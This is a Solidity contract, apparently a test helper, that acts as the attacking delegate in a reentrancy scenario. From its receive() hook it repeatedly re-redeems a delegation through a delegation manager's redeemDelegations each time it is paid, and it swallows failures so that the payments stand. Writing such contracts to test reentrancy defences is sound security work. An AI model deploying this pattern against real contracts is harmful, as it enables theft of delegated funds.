// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface IDelegationManager {
    function redeemDelegations(bytes[] calldata contexts, bytes32[] calldata modes, bytes[] calldata calls) external;
}

/// @title The delegate of an attack: redeems its delegation again while it is paid.
contract ReentrantRedeemer {
    IDelegationManager private immutable manager;
    bytes private context;
    bytes private payment;
    uint256 private left;

    constructor(address manager_) {
        manager = IDelegationManager(manager_);
    }

    receive() external payable {
        if (left == 0) return;
        left--;
        // A failed attempt must not undo the payment that it is part of.
        try this.redeemOnce() {} catch {}
    }

    /// @notice Redeems a delegation, and again from within each payment.
    function redeem(bytes calldata context_, bytes calldata payment_, uint256 again) external {
        context = context_;
        payment = payment_;
        left = again;
        this.redeemOnce();
    }

    function redeemOnce() external {
        require(msg.sender == address(this), "not this contract");
        bytes[] memory contexts = new bytes[](1);
        bytes[] memory calls = new bytes[](1);
        contexts[0] = context;
        calls[0] = payment;
        manager.redeemDelegations(contexts, new bytes32[](1), calls);
    }
}
